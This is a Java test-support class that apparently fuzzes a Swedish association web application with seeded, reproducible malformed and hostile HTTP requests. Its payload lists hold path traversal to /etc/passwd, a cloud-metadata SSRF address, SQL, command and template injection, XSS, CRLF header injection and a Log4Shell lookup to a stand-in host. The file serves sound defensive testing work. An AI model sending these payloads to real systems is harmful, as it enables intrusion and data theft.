package se.fyrklover.entrance;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

/// Makes requests that nobody means well with; the same number makes the same request each time.
///
/// They keep to the protocol's version and to how a message is framed: who breaks those is answered
/// by the protocol itself, not by the program.
final class HostileRequests {

    private static final long SEED = 20_261_122;

    /// One of them.
    ///
    /// @param who the number of who asks, among those that are signed in; 0 is nobody
    /// @param raw its bytes, each as one character
    /// @param broken whether its body ends before it has said it would
    record Hostile(int number, String method, String target, int who, String raw, boolean broken) {

        byte[] bytes() {
            return raw.getBytes(StandardCharsets.ISO_8859_1);
        }

        boolean isHead() {
            return method.equals("HEAD");
        }

        @Override
        public String toString() {
            var line = method + " " + target;
            return number + ": " + (line.length() <= 300 ? line : line.substring(0, 300) + "…");
        }
    }

    private static final List<String> METHODS =
            List.of(
                    "GET",
                    "POST",
                    "HEAD",
                    "PUT",
                    "DELETE",
                    "OPTIONS",
                    "TRACE",
                    "PATCH",
                    "get",
                    "PROPFIND",
                    "X",
                    "A".repeat(500));

    /// What stands in place of something well meant.
    private static final List<String> EVIL =
            List.of(
                    "",
                    " ",
                    "..",
                    "../../../../../etc/passwd",
                    "..\\..\\windows\\win.ini",
                    "....//....//etc/passwd",
                    "/etc/passwd",
                    "file:///etc/passwd",
                    "http://169.254.169.254/latest/meta-data/",
                    "//elak.example/",
                    "\0",
                    "krus\0.csv",
                    "a\r\nSet-Cookie: b=c",
                    "' or '1'='1",
                    "1; drop table account; --",
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "${7*7}${jndi:ldap://elak.example/a}",
                    "#{7*7}*{7*7}{{7*7}}",
                    "%n%n%s%s%x",
                    "%",
                    "%zz",
                    "$(id)`id`|id;id",
                    "(((((a+)+)+)+)+)$",
                    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
                    "\uFEFF",
                    "\u202Eabc",
                    "e\u0301\u0301\u0301\u0301\u0301\u0301",
                    "👩‍👩‍👧‍👧",
                    "İıſK",
                    "NaN",
                    "-0",
                    "-1",
                    "0",
                    "1e309",
                    "0x7fffffff",
                    "2147483648",
                    "9223372036854775808",
                    "9".repeat(400),
                    "0000",
                    "9999",
                    "999999999",
                    "2024-02-30",
                    "2024-13-01",
                    "2024-01-01--2023-01-01",
                    "0001-01-01--9999-12-31",
                    "2024-01-01--2024-01-01",
                    "-999999999-01-01",
                    "+999999999-12-31",
                    "null",
                    "undefined",
                    "true",
                    "[]",
                    "{}",
                    "{\"a\":",
                    "00000000-0000-0000-0000-000000000000",
                    "00000000-0000-0000-0000-00000000000g",
                    "A".repeat(43),
                    "_".repeat(43),
                    "a".repeat(3_000),
                    "member:kloverby",
                    "intervention:' or 1=1",
                    "administrator",
                    "/konto",
                    "bron",
                    "kloverby",
                    "namn@exempel.se",
                    "a@" + "b".repeat(300) + ".se",
                    "222000-1446");

    /// Bytes that are no text, or text told in a way that is none, as they stand in an address.
    private static final List<String> ENCODED =
            List.of(
                    "%00",
                    "%FF",
                    "%C3%28",
                    "%ED%A0%80",
                    "%C0%AE%C0%AE/",
                    "%F4%90%80%80",
                    "%2e%2e%2f",
                    "%252e%252e%252f",
                    "%u0041",
                    "%0d%0aX:1",
                    "%7F",
                    "%5c..%5c",
                    ";jsessionid=1",
                    "%",
                    "%2",
                    "%E2%80%AE",
                    "+",
                    "%20",
                    "%09",
                    "..;/",
                    "./",
                    "//");

    private static final Map<String, String> GOOD =
            Map.ofEntries(
                    Map.entry("period", "2025"),
                    Map.entry("id", "bron"),
                    Map.entry("member", "kloverby"),
                    Map.entry("intervention", "bron"),
                    Map.entry("definition", "followup.enrolled"),
                    Map.entry("kind", "delarsrapport"),
                    Map.entry("edition", "1"),
                    Map.entry("format", "csv"),
                    Map.entry("file", "members.csv"),
                    Map.entry("row", "2"),
                    Map.entry("number", "1"),
                    Map.entry("month", "2025-01"),
                    Map.entry("token", "A".repeat(43)));

    private static final List<String> TYPES =
            List.of(
                    "application/x-www-form-urlencoded",
                    "application/x-www-form-urlencoded; charset=utf-16",
                    "application/x-www-form-urlencoded; charset=ingen",
                    "application/json",
                    "application/json; charset=\"",
                    "text/xml",
                    "text/plain",
                    "multipart/form-data",
                    "multipart/form-data; boundary=",
                    "multipart/mixed; boundary=b",
                    "application/octet-stream",
                    "*/*",
                    "inget",
                    "a/b; q=\u00ff",
                    ";");

    private static final List<String> HEADERS =
            List.of(
                    "Accept",
                    "Accept-Language",
                    "Accept-Encoding",
                    "Accept-Charset",
                    "Referer",
                    "Origin",
                    "X-Forwarded-For",
                    "X-Forwarded-Host",
                    "X-Forwarded-Proto",
                    "Forwarded",
                    "X-HTTP-Method-Override",
                    "X-Original-URL",
                    "Range",
                    "If-None-Match",
                    "If-Modified-Since",
                    "Authorization",
                    "Fyrklover-Nonce",
                    "HX-Request",
                    "HX-Target",
                    "Sec-Fetch-Site",
                    "User-Agent",
                    "X-CSRF-TOKEN",
                    "Content-Encoding",
                    "Cookie2",
                    "Max-Forwards",
                    "Upgrade",
                    "Date",
                    "Pragma",
                    "X".repeat(200));

    private static final List<String> COOKIES =
            List.of(
                    "__Host-session",
                    "__Host-formular",
                    "__Host-steg",
                    "__Host-nyckel",
                    "sprak",
                    "a");

    /// In an order of their own, which a map has not.
    private static final List<String> USUAL = GOOD.values().stream().sorted().toList();

    private final List<String> routes;
    private final List<String> parameters;
    private final String association;
    private final List<String> sessions;
    private final String host;

    /// @param sessions cookies of those that are signed in, replaced as they end
    HostileRequests(String association, List<String> sessions, String host) {
        this.routes = Routes.all();
        this.parameters = Routes.parameters();
        this.association = association;
        this.sessions = sessions;
        this.host = host;
    }

    Hostile make(int number) {
        var random = new Random(SEED + number * 7_919L);
        // The first of what like seeds give is alike.
        for (var at = 0; at < 5; at++) random.nextInt();
        return new Making(random).hostile(number);
    }

    /// One request, while it is being made.
    private final class Making {

        private final Random random;

        Making(Random random) {
            this.random = random;
        }

        private boolean in(int each) {
            return random.nextInt(each) == 0;
        }

        private <T> T one(List<T> all) {
            return all.get(random.nextInt(all.size()));
        }

        Hostile hostile(int number) {
            var route = one(routes);
            var method = in(8) ? one(METHODS) : route.substring(0, route.indexOf(' '));
            var target = target(route.substring(route.indexOf(' ') + 1));
            var who = random.nextInt(sessions.size() + 1);
            var hasBody = method.equals("POST") || in(20);
            var body = hasBody ? body() : new Body("", "");
            var broken = hasBody && body.raw().length() > 2 && in(60);
            var head = head(method, target, who, body, hasBody);
            var raw = head + body.raw().substring(0, body.raw().length() - (broken ? 2 : 0));
            return new Hostile(number, method, target, who, raw, broken);
        }

        private String target(String pattern) {
            var path = in(25) ? "/" + nasty() : path(pattern);
            var query = new ArrayList<String>();
            while (query.size() < 6 && in(2)) query.add(pair());
            if (!query.isEmpty() && in(6)) query.add(query.getFirst());
            return query.isEmpty() ? path : path + "?" + String.join("&", query);
        }

        private String path(String pattern) {
            var path = new StringBuilder();
            var rest = pattern;
            while (rest.contains("{")) {
                var open = rest.indexOf('{');
                var close = closing(rest, open);
                path.append(rest, 0, open).append(variable(rest.substring(open + 1, close)));
                rest = rest.substring(close + 1);
            }
            return path.append(rest).append(in(40) ? nasty() : "").toString();
        }

        private String variable(String variable) {
            var name = variable.replaceFirst(":.*", "");
            if (in(4)) return nasty();
            if (name.equals("association")) return association;
            return GOOD.getOrDefault(name, new UUID(0, 1).toString());
        }

        private static int closing(String text, int open) {
            var depth = 0;
            for (var at = open; at < text.length(); at++) {
                if (text.charAt(at) == '{') depth++;
                if (text.charAt(at) == '}' && --depth == 0) return at;
            }
            throw new IllegalArgumentException(text);
        }

        /// As a browser would write it, or as bytes that no browser writes.
        private String nasty() {
            return in(3) ? one(ENCODED) + (in(2) ? one(ENCODED) : "") : encoded(one(EVIL));
        }

        private static String encoded(String text) {
            return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        }

        private String name() {
            return in(12) ? encoded(one(EVIL)) : one(parameters);
        }

        private String value() {
            return in(5) ? one(USUAL) : nasty();
        }

        private String pair() {
            return in(15) ? name() : name() + "=" + value();
        }

        private record Body(String type, String raw) {}

        private Body body() {
            return switch (random.nextInt(8)) {
                case 0 -> new Body(one(TYPES), pairs(6));
                case 1 -> new Body("application/json", utf8(json(0)));
                case 2 -> parts();
                case 3 -> new Body(one(TYPES), noise());
                case 4 -> new Body("application/x-www-form-urlencoded", pairs(in(10) ? 3_000 : 40));
                default -> new Body("application/x-www-form-urlencoded", pairs(8));
            };
        }

        private String pairs(int most) {
            var pairs = new ArrayList<String>();
            for (var count = random.nextInt(most); pairs.size() < count; ) pairs.add(pair());
            if (in(40)) pairs.add(one(parameters) + "=" + "å".repeat(200_000));
            if (!in(3)) pairs.add("_csrf=" + Asking.masked());
            return utf8(String.join("&", pairs));
        }

        private String json(int depth) {
            return switch (random.nextInt(depth > 4 ? 4 : 6)) {
                case 0 -> "\"" + one(EVIL).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
                case 1 -> one(List.of("1", "-1", "1e400", "null", "true", "00", "9".repeat(500)));
                case 2 -> "[".repeat(in(10) ? 5_000 : 3);
                case 3 -> one(EVIL);
                case 4 -> "[" + json(depth + 1) + "," + json(depth + 1) + "]";
                default ->
                        "{\"format\":1,\"id\":"
                                + json(depth + 1)
                                + ",\"cells\":"
                                + json(depth + 1)
                                + (in(5) ? "" : "}");
            };
        }

        /// Parts of a form, with names of files that lead elsewhere, ends that never come and heads
        /// without end.
        private Body parts() {
            var boundary = in(10) ? "b".repeat(69) : "grans";
            var text = new StringBuilder();
            for (var count = random.nextInt(in(8) ? 90 : 5); count > 0; count--) {
                text.append("--")
                        .append(boundary)
                        .append("\r\nContent-Disposition: form-data; name=\"");
                text.append(in(3) ? "fil" : one(parameters)).append('"');
                if (in(2)) text.append("; filename=\"").append(one(EVIL)).append('"');
                text.append("\r\n");
                if (in(4)) text.append("Content-Type: ").append(one(TYPES)).append("\r\n");
                if (in(20)) text.append("X-A: ").append("a".repeat(20_000)).append("\r\n");
                text.append("\r\n").append(in(30) ? "x".repeat(100_000) : one(EVIL)).append("\r\n");
            }
            if (!in(4))
                text.append("--")
                        .append(boundary)
                        .append("\r\n")
                        .append("Content-Disposition: form-data; name=\"_csrf\"\r\n\r\n")
                        .append(Asking.masked())
                        .append("\r\n");
            if (!in(5)) text.append("--").append(boundary).append("--\r\n");
            return new Body("multipart/form-data; boundary=" + boundary, utf8(text.toString()));
        }

        private String noise() {
            var bytes = new byte[random.nextInt(in(10) ? 100_000 : 500)];
            random.nextBytes(bytes);
            return new String(bytes, StandardCharsets.ISO_8859_1);
        }

        private String head(String method, String target, int who, Body body, boolean hasBody) {
            var head = new StringBuilder(method + " " + target + " HTTP/1.1\r\n");
            head.append("Host: ").append(in(30) ? header(one(EVIL)) : host).append("\r\n");
            head.append("Cookie: ").append(cookies(who)).append("\r\n");
            if (hasBody) {
                if (!body.type().isEmpty() && !in(20))
                    head.append("Content-Type: ").append(body.type()).append("\r\n");
                head.append("Content-Length: ").append(body.raw().length()).append("\r\n");
            }
            while (in(2))
                head.append(one(HEADERS)).append(": ").append(header(one(EVIL))).append("\r\n");
            if (in(30)) head.append("Authorization: Bearer ").append("A".repeat(43)).append("\r\n");
            if (in(100)) head.append("X-Long: ").append("a".repeat(9_000)).append("\r\n");
            if (in(6)) head.append("HX-Request: true\r\nHX-Target: panel\r\n");
            return head.append("\r\n").toString();
        }

        private String cookies(int who) {
            var cookies = new ArrayList<String>();
            if (who > 0) cookies.add(sessions.get(who - 1));
            if (!in(3)) cookies.add("__Host-formular=" + Asking.FORM);
            while (in(4)) cookies.add(one(COOKIES) + "=" + header(one(EVIL)));
            return String.join("; ", cookies);
        }

        /// What can stand on one line.
        private static String header(String text) {
            var line = text.replaceAll("[\r\n\0]", "");
            return utf8(line);
        }

        /// The text's bytes, each as one character.
        private static String utf8(String text) {
            return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
        }
    }
}
